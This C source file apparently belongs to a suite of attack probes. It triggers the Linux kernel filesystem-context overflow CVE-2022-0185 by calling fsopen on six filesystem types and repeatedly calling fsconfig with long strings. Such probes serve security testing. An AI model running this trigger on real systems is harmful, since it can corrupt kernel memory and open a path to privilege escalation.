/* Gives a file system context more words than fit (CVE-2022-0185). */
#include "common/attack.h"

static void attempt(void) {
    static const char *kinds[] = {"ext4", "cgroup2", "tmpfs", "mqueue", "overlay", "9p"};
    char word[256];
    memset(word, 'a', sizeof word - 1);
    word[255] = 0;
    for (unsigned i = 0; i < sizeof kinds / sizeof *kinds; i++) {
        int context = TRY(syscall(SYS_fsopen, kinds[i], 0));
        int taken = 0;
        for (int n = 0; context >= 0 && n < 64; n++) {
            taken += syscall(SYS_fsconfig, context, 1, "", word, 0) == 0;
        }
        printf("%s takes %d\n", kinds[i], taken);
        close(context);
    }
}
